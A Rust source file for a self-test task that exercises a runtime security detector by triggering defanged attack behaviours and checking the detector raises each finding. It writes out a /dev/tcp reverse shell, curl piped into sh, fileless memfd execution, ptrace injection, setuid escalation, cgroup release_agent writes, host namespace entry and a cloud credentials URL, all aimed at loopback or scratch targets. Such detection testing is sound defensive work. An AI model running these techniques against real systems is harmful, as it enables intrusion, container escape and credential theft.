//! `cargo xtask scenarios`: a self-test of Ward on this host. It runs `ward-agent watch` piped into
//! `ward-collector detect --stream`, triggers a harmless version of each runtime behaviour (loopback only;
//! DNS goes to a server this task runs on 127.0.0.77), and reports which findings Ward raised and how long
//! after the trigger. Everything it creates lives in a scratch directory it removes.
//!
//! Container-only types are triggered from a cgroup named like a container (the agent takes container
//! identity from the cgroup path), removed at the end. A scenario that cannot run on this host (a kernel
//! without module support) says why instead of failing the run.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::os::unix::fs::OpenOptionsExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::mpsc::{Receiver, channel};
use std::time::{Duration, Instant};

use anyhow::{Context, bail};

#[derive(clap::Args)]
pub struct Args {
    /// Seconds to wait for each finding.
    #[arg(long, default_value_t = 5.0)]
    wait: f64,
}

struct Scenario {
    name: &'static str,
    finding: &'static str,
    trigger: fn(&Scratch) -> anyhow::Result<()>,
}

/// A trigger that cannot run on this host; the reason is reported instead of a result.
#[derive(Debug)]
struct NotPossibleHere(String);

impl std::fmt::Display for NotPossibleHere {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

impl std::error::Error for NotPossibleHere {}

/// Where triggers work: a scratch directory and a cgroup that looks like a container.
struct Scratch {
    dir: PathBuf,
    container: FakeContainer,
}

/// A cgroup v2 directory named like a container (64 hex digits, as Docker's cgroupfs layout does),
/// so the agent attributes the processes moved into it to a container. Nothing else about them
/// changes. Removed when dropped.
struct FakeContainer {
    cgroup: PathBuf,
}

impl FakeContainer {
    fn create() -> anyhow::Result<FakeContainer> {
        let parent =
            ward_tests::cgroup2_mount().join(format!("ward-scenarios-{}", std::process::id()));
        let cgroup = parent.join(format!(
            "{:064x}",
            0xba5e_u64 << 32 | u64::from(std::process::id())
        ));
        std::fs::create_dir_all(&cgroup)
            .with_context(|| format!("creating {}", cgroup.display()))?;
        Ok(FakeContainer { cgroup })
    }

    /// Runs a program inside the container (a shell moves itself in, then execs it); fails when it fails.
    fn run(&self, program: &str, args: &[&str]) -> anyhow::Result<()> {
        let procs = self.cgroup.join("cgroup.procs");
        let status = Command::new("sh")
            .args([
                "-c",
                &format!("echo $$ > {} && exec \"$@\"", procs.display()),
                "sh",
                program,
            ])
            .args(args)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .status()?;
        if !status.success() {
            bail!("{program} in the container failed ({status})");
        }
        Ok(())
    }
}

impl Drop for FakeContainer {
    fn drop(&mut self) {
        // The processes have exited, but the kernel may take a moment to empty the cgroup.
        for _ in 0..50 {
            if std::fs::remove_dir(&self.cgroup).is_ok() || !self.cgroup.exists() {
                break;
            }
            std::thread::sleep(Duration::from_millis(100));
        }
        if let Some(parent) = self.cgroup.parent() {
            let _ = std::fs::remove_dir(parent);
        }
    }
}

const PYTHON: &str = "/usr/bin/python3";

fn python(code: &str) -> anyhow::Result<()> {
    let status = Command::new(PYTHON)
        .args(["-c", code])
        .stdout(Stdio::null())
        .status()?;
    if !status.success() {
        bail!("python trigger failed");
    }
    Ok(())
}

/// Runs a copy of /bin/true under `name` with `args`: what a rule keyed on a tool's name and
/// arguments sees, without running the tool.
fn named_true(s: &Scratch, name: &str, args: &[&str]) -> anyhow::Result<()> {
    let exe = s.dir.join(name);
    std::fs::copy("/bin/true", &exe)?;
    Command::new(&exe).args(args).status()?;
    Ok(())
}

fn reverse_shell(_: &Scratch) -> anyhow::Result<()> {
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let port = listener.local_addr()?.port();
    let mut shell = Command::new("bash")
        .args([
            "-c",
            &format!("exec bash --norc -i >& /dev/tcp/127.0.0.1/{port} 0>&1"),
        ])
        .stdin(Stdio::null())
        .spawn()?;
    let (mut conn, _) = listener.accept()?;
    conn.write_all(b"exit\n")?;
    let _ = conn.read_to_end(&mut Vec::new());
    shell.wait()?;
    Ok(())
}

fn cnc_lookup(_: &Scratch) -> anyhow::Result<()> {
    ward_tests::dns_lookup("guarddutyc2activityb.com");
    Ok(())
}

fn mining_pool_lookup(_: &Scratch) -> anyhow::Result<()> {
    ward_tests::dns_lookup("pool.supportxmr.com");
    Ok(())
}

fn miner(s: &Scratch) -> anyhow::Result<()> {
    named_true(s, "xmrig", &[])
}

fn fileless(_: &Scratch) -> anyhow::Result<()> {
    python(
        "import os\nfd=os.memfd_create('payload',0)\nos.write(fd,open('/bin/true','rb').read())\n\
         os.execv('/proc/self/fd/%d'%fd,['payload'])",
    )
}

fn ptrace_attach(_: &Scratch) -> anyhow::Result<()> {
    let mut target = Command::new("sleep").arg("10").spawn()?;
    let pid = target.id();
    let result = python(&format!(
        "import ctypes,os\nlibc=ctypes.CDLL(None)\nassert libc.ptrace(16,{pid},0,0)==0\nos.waitpid({pid},0)\nlibc.ptrace(17,{pid},0,0)"
    ));
    target.kill()?;
    target.wait()?;
    result
}

/// PTRACE_TRACEME and exit without executing anything: a process keeping debuggers away.
fn ptrace_anti_debugging(_: &Scratch) -> anyhow::Result<()> {
    python("import ctypes\nassert ctypes.CDLL(None).ptrace(0,0,0,0)==0")
}

fn userfaultfd(_: &Scratch) -> anyhow::Result<()> {
    python("import ctypes\nctypes.CDLL(None).syscall(323, 0o2000000)")
}

fn setuid_binary(s: &Scratch) -> anyhow::Result<()> {
    // A root-owned setuid copy of `id` run as nobody: its euid becomes 0. The copy is created with
    // its setuid mode rather than chmod-ed to it: setting the bit on an existing file is a finding of
    // its own (PrivilegeEscalation:Runtime/SuspiciousCommand), which is not this scenario's.
    let suid = s.dir.join("ward-suid-id");
    std::fs::OpenOptions::new()
        .write(true)
        .create_new(true)
        .mode(0o4755)
        .open(&suid)?
        .write_all(&std::fs::read("/usr/bin/id")?)?;
    Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
        .arg(&suid)
        .stdout(Stdio::null())
        .status()?;
    Ok(())
}

/// A library copied into place inside the container, then loaded there by the dynamic loader.
fn new_library(s: &Scratch) -> anyhow::Result<()> {
    let lib = s.dir.join("libward-z.so.1");
    let lib = lib.to_str().context("scratch path")?;
    s.container
        .run("cp", &["/lib/x86_64-linux-gnu/libz.so.1", lib])?;
    s.container.run(
        PYTHON,
        &[
            "-c",
            &format!("import ctypes\nctypes.CDLL('{lib}').zlibVersion()"),
        ],
    )
}

/// A container process connecting to a UNIX socket named docker.sock. The listener is this
/// task's, in the scratch directory: no Docker daemon is involved or needed.
fn docker_socket(s: &Scratch) -> anyhow::Result<()> {
    let path = s.dir.join("docker.sock");
    let listener = std::os::unix::net::UnixListener::bind(&path)?;
    let path = path.to_str().context("scratch path")?;
    let connected = s.container.run(
        PYTHON,
        &[
            "-c",
            &format!("import socket\nsocket.socket(socket.AF_UNIX).connect('{path}')"),
        ],
    );
    drop(listener);
    std::fs::remove_file(path)?;
    connected
}

/// A bind mount of a host directory, by a container process in its own mount and pid namespaces
/// (as a container's processes are); the namespaces vanish with it, so the host never sees it.
fn container_mount(s: &Scratch) -> anyhow::Result<()> {
    let target = s.dir.join("mnt");
    std::fs::create_dir_all(&target)?;
    let target = target.to_str().context("scratch path")?;
    s.container.run(
        "unshare",
        &[
            "--mount",
            "--pid",
            "--fork",
            "--propagation",
            "private",
            "sh",
            "-c",
            &format!("mount --bind /etc {target} && umount {target}"),
        ],
    )
}

/// A write to release_agent of a cgroup v1 hierarchy of its own (a named one, no controllers),
/// mounted in a private mount namespace: the host's hierarchies are not touched and the new one
/// disappears with the namespace.
fn release_agent(s: &Scratch) -> anyhow::Result<()> {
    let target = s.dir.join("cgroup-v1");
    std::fs::create_dir_all(&target)?;
    let t = target.display();
    let status = Command::new("unshare")
        .args(["--mount", "--propagation", "private", "sh", "-c"])
        .arg(format!(
            "mount -t cgroup -o none,name=ward-scenario cgroup {t} && echo > {t}/release_agent; rc=$?; umount {t}; exit $rc"
        ))
        .stderr(Stdio::null())
        .status()?;
    if !status.success() {
        return Err(NotPossibleHere(
            "cannot mount a cgroup v1 hierarchy here (no v1 support?)".into(),
        )
        .into());
    }
    Ok(())
}

/// A download piped into a shell; the URL is a closed loopback port, so nothing is fetched.
fn download_pipe_shell(_: &Scratch) -> anyhow::Result<()> {
    Command::new("bash")
        .args(["-c", "curl -fsS http://127.0.0.1:9/ward-scenario | sh"])
        .stderr(Stdio::null())
        .status()?;
    Ok(())
}

/// nsenter into pid 1's mount namespace, which this task already shares: a no-op where it is
/// allowed. The rule looks at the exec, so a sandbox refusing the entry (as this VM's init does)
/// changes nothing for the test.
fn host_namespace_entry(_: &Scratch) -> anyhow::Result<()> {
    Command::new("nsenter")
        .args(["-t", "1", "-m", "--", "true"])
        .stderr(Stdio::null())
        .status()?;
    Ok(())
}

/// The instance-metadata credentials URL on a command line; echo only prints it.
fn metadata_credentials_command(_: &Scratch) -> anyhow::Result<()> {
    Command::new("echo")
        .arg("http://169.254.169.254/latest/meta-data/iam/security-credentials/")
        .stdout(Stdio::null())
        .status()?;
    Ok(())
}

fn selinux_off(s: &Scratch) -> anyhow::Result<()> {
    named_true(s, "setenforce", &["0"])
}

fn crontab_install(s: &Scratch) -> anyhow::Result<()> {
    named_true(s, "crontab", &["ward-scenario.cron"])
}

/// Truncating a shell history file (a scratch one).
fn history_cleared(s: &Scratch) -> anyhow::Result<()> {
    std::fs::write(s.dir.join(".bash_history"), "")?;
    Ok(())
}

/// finit_module of an empty file: the call the rule watches, without a module to load.
fn kernel_module(s: &Scratch) -> anyhow::Result<()> {
    let empty = s.dir.join("ward.ko");
    std::fs::write(&empty, "")?;
    let file = std::fs::File::open(&empty)?;
    // SAFETY: finit_module(fd, "", 0) reads nothing of ours beyond the empty string.
    let rc = unsafe {
        libc::syscall(
            libc::SYS_finit_module,
            std::os::fd::AsRawFd::as_raw_fd(&file),
            c"".as_ptr(),
            0,
        )
    };
    let err = std::io::Error::last_os_error();
    if rc != 0 && err.raw_os_error() == Some(libc::ENOSYS) {
        return Err(NotPossibleHere(
            "kernel built without modules (CONFIG_MODULES=n): finit_module returns ENOSYS, and the rule wants a load that succeeded".into(),
        )
        .into());
    }
    Err(NotPossibleHere(format!(
        "finit_module of an empty file failed ({err}); loading a real module is not a harmless test"
    ))
    .into())
}

const SCENARIOS: &[Scenario] = &[
    Scenario {
        name: "reverse shell to a loopback listener",
        finding: "Execution:Runtime/ReverseShell",
        trigger: reverse_shell,
    },
    Scenario {
        name: "lookup of GuardDuty's test C&C domain",
        finding: "Backdoor:Runtime/C&CActivity.B!DNS",
        trigger: cnc_lookup,
    },
    Scenario {
        name: "lookup of a mining pool",
        finding: "CryptoCurrency:Runtime/BitcoinTool.B!DNS",
        trigger: mining_pool_lookup,
    },
    Scenario {
        name: "a binary named like a miner",
        finding: "Impact:Runtime/CryptoMinerExecuted",
        trigger: miner,
    },
    Scenario {
        name: "exec from a memfd",
        finding: "DefenseEvasion:Runtime/FilelessExecution",
        trigger: fileless,
    },
    Scenario {
        name: "ptrace attach by a non-debugger",
        finding: "DefenseEvasion:Runtime/ProcessInjection.Ptrace",
        trigger: ptrace_attach,
    },
    Scenario {
        name: "PTRACE_TRACEME, then exit without exec",
        finding: "DefenseEvasion:Runtime/PtraceAntiDebugging",
        trigger: ptrace_anti_debugging,
    },
    Scenario {
        name: "userfaultfd",
        finding: "PrivilegeEscalation:Runtime/UserfaultfdUsage",
        trigger: userfaultfd,
    },
    Scenario {
        name: "setuid binary run by nobody",
        finding: "PrivilegeEscalation:Runtime/ElevationToRoot",
        trigger: setuid_binary,
    },
    Scenario {
        name: "library written then dlopened in a container",
        finding: "Execution:Runtime/NewLibraryLoaded",
        trigger: new_library,
    },
    Scenario {
        name: "container connects to a docker.sock",
        finding: "PrivilegeEscalation:Runtime/DockerSocketAccessed",
        trigger: docker_socket,
    },
    Scenario {
        name: "container bind-mounts /etc (own mount+pid ns)",
        finding: "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory",
        trigger: container_mount,
    },
    Scenario {
        name: "release_agent write (private cgroup v1)",
        finding: "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified",
        trigger: release_agent,
    },
    Scenario {
        name: "curl piped into sh (loopback URL)",
        finding: "Execution:Runtime/SuspiciousCommand",
        trigger: download_pipe_shell,
    },
    Scenario {
        name: "nsenter -t 1",
        finding: "PrivilegeEscalation:Runtime/SuspiciousCommand",
        trigger: host_namespace_entry,
    },
    Scenario {
        name: "metadata credentials URL on a command line",
        finding: "Discovery:Runtime/SuspiciousCommand",
        trigger: metadata_credentials_command,
    },
    Scenario {
        name: "setenforce 0 (a copy of true)",
        finding: "DefenseEvasion:Runtime/SuspiciousCommand",
        trigger: selinux_off,
    },
    Scenario {
        name: "crontab install (a copy of true)",
        finding: "Persistence:Runtime/SuspiciousCommand",
        trigger: crontab_install,
    },
    Scenario {
        name: "shell history truncated",
        finding: "DefenseEvasion:Runtime/SensitiveFileModified",
        trigger: history_cleared,
    },
    Scenario {
        name: "kernel module load",
        finding: "DefenseEvasion:Runtime/KernelModuleLoaded",
        trigger: kernel_module,
    },
];

/// A finding as the detector printed it: its type, and the whole line (what to show when it was
/// not expected).
struct Raised {
    at: Instant,
    kind: String,
    line: String,
}

/// True when a finding's process, or one of its ancestors, is `pid`.
fn raised_by(finding: &str, pid: u32) -> bool {
    let Ok(finding) = serde_json::from_str::<serde_json::Value>(finding) else {
        return false;
    };
    let process = &finding["service"]["runtimeDetails"]["process"];
    process["pid"] == pid
        || process["lineage"]
            .as_array()
            .is_some_and(|l| l.iter().any(|a| a["pid"] == pid))
}

/// The running agent and detector; findings arrive on the channel with the time they were read.
struct Pipeline {
    agent: Child,
    detect: Child,
    findings: Receiver<Raised>,
}

impl Pipeline {
    fn start(bins: &Path) -> anyhow::Result<Pipeline> {
        let mut agent = Command::new(bins.join("ward-agent"))
            .args(["watch", "--types"])
            .arg("process_exec,process_fork,process_exit,net_stdio_socket,net_connect,dns_query,ptrace,process_vm_access,memfd_create,userfaultfd,priv_setid,file_open,file_chmod,mount,module_load,library_load")
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .context("starting ward-agent (run as root)")?;
        let mut stderr = BufReader::new(agent.stderr.take().expect("piped"));
        let mut line = String::new();
        while !line.contains("ward-agent: ready") {
            line.clear();
            if stderr.read_line(&mut line)? == 0 {
                bail!("ward-agent exited before it was ready");
            }
        }
        std::thread::spawn(move || std::io::copy(&mut stderr, &mut std::io::sink()));
        let mut detect = Command::new(bins.join("ward-collector"))
            .args(["detect", "--stream", "--events", "-"])
            .stdin(agent.stdout.take().expect("piped"))
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()?;
        let out = BufReader::new(detect.stdout.take().expect("piped"));
        let (tx, findings) = channel();
        std::thread::spawn(move || {
            for line in out.lines().map_while(Result::ok) {
                let kind = line
                    .split("\"type\":\"")
                    .nth(1)
                    .and_then(|t| t.split('"').next())
                    .unwrap_or("")
                    .to_string();
                let raised = Raised {
                    at: Instant::now(),
                    kind,
                    line,
                };
                if tx.send(raised).is_err() {
                    break;
                }
            }
        });
        Ok(Pipeline {
            agent,
            detect,
            findings,
        })
    }

    /// The first finding of `kind` read before `deadline`, and every other finding read until then.
    fn wait_for(&self, kind: &str, deadline: Instant) -> (Option<Instant>, Vec<Raised>) {
        let mut others = Vec::new();
        while let Ok(raised) = self
            .findings
            .recv_timeout(deadline.saturating_duration_since(Instant::now()))
        {
            if raised.kind == kind {
                return (Some(raised.at), others);
            }
            others.push(raised);
        }
        (None, others)
    }

    /// Findings read within `window` from now (what a trigger raised after its own finding).
    fn drain(&self, window: Duration) -> Vec<Raised> {
        ward_tests::received_within(&self.findings, window)
    }

    fn stop(mut self) {
        // SAFETY: signalling our own child.
        unsafe { libc::kill(self.agent.id() as i32, libc::SIGINT) };
        let _ = self.agent.wait();
        let _ = self.detect.wait();
    }
}

pub fn run(args: Args) -> anyhow::Result<()> {
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } != 0 {
        bail!("scenarios load eBPF and use setuid binaries: run as root");
    }
    crate::cargo(
        &[
            "build",
            "--bins",
            "-p",
            "ward-agent",
            "-p",
            "ward-collector",
        ],
        &[],
    )?;
    let bins: PathBuf = crate::target_dir().join("debug");
    let dir = std::env::temp_dir().join(format!("ward-scenarios-{}", std::process::id()));
    std::fs::create_dir_all(&dir)?;
    std::fs::set_permissions(&dir, std::os::unix::fs::PermissionsExt::from_mode(0o755))?;
    let scratch = Scratch {
        dir: dir.clone(),
        container: FakeContainer::create()?,
    };
    let pipeline = Pipeline::start(&bins)?;
    println!("| scenario | expected finding | raised | trigger to finding | other findings |");
    println!("|---|---|---|---|---|");
    let (mut raised, mut not_possible) = (0, 0);
    let mut unexpected = Vec::new();
    for scenario in SCENARIOS {
        // Drop findings of earlier scenarios still in flight.
        while pipeline.findings.try_recv().is_ok() {}
        let started = Instant::now();
        let outcome = (scenario.trigger)(&scratch);
        let (found, mut others) = match &outcome {
            Ok(()) => pipeline.wait_for(
                scenario.finding,
                started + Duration::from_secs_f64(args.wait),
            ),
            Err(_) => (None, Vec::new()),
        };
        // What the trigger raised besides its finding arrives within moments of it. Only findings
        // about this task's own processes count: the host may be busy with other work.
        others.extend(pipeline.drain(Duration::from_millis(500)));
        others.retain(|o| o.kind != scenario.finding && raised_by(&o.line, std::process::id()));
        let other_kinds: Vec<&str> = others.iter().map(|o| o.kind.as_str()).collect();
        let (yes, latency) = match (&outcome, found) {
            (Err(e), _) if e.is::<NotPossibleHere>() => {
                not_possible += 1;
                ("not possible here".to_string(), format!("{e}"))
            }
            (Err(e), _) => ("trigger failed".to_string(), format!("{e:#}")),
            (Ok(()), Some(at)) => (
                "yes".to_string(),
                format!("{:.0} ms", (at - started).as_secs_f64() * 1000.0),
            ),
            (Ok(()), None) => ("NO".to_string(), "-".to_string()),
        };
        raised += usize::from(yes == "yes");
        println!(
            "| {} | `{}` | {yes} | {latency} | {} |",
            scenario.name,
            scenario.finding,
            other_kinds.join(", ")
        );
        unexpected.extend(others.into_iter().map(|o| (scenario.name, o.line)));
    }
    pipeline.stop();
    drop(scratch);
    std::fs::remove_dir_all(&dir).ok();
    println!(
        "\n{raised} of {} scenarios raised their finding ({not_possible} not possible on this host)",
        SCENARIOS.len()
    );
    for (scenario, line) in &unexpected {
        println!("\nnot the scenario's finding ({scenario}): {line}");
    }
    let missing = SCENARIOS.len() - raised - not_possible;
    if missing > 0 {
        bail!("{missing} scenarios raised no finding");
    }
    if !unexpected.is_empty() {
        bail!(
            "{} findings other than the scenarios' own were raised",
            unexpected.len()
        );
    }
    Ok(())
}
